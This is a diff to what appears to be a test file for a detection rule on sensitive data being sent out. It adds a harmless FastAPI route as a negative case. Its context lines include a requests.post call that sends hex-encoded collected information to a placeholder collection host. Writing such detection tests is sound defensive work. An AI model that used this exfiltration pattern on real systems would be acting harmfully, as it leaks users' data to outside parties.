@@ -22,3 +22,16 @@ for _c in _info:
 requests.post("https://collect.example.invalid/q", data=_hexed)
 # ok: sensitive-data-sent
 requests.post("https://collect.example.invalid/q", data="%s;%s" % ("static", "text"))
+
+import os
+
+from fastapi import FastAPI
+
+app = FastAPI()
+
+
+# A route path read from the environment: registering a handler sends nothing.
+# ok: sensitive-data-sent
+@app.post(os.environ.get("CHAT_ROUTE", "/api/chat"))
+def chat():
+    return {}
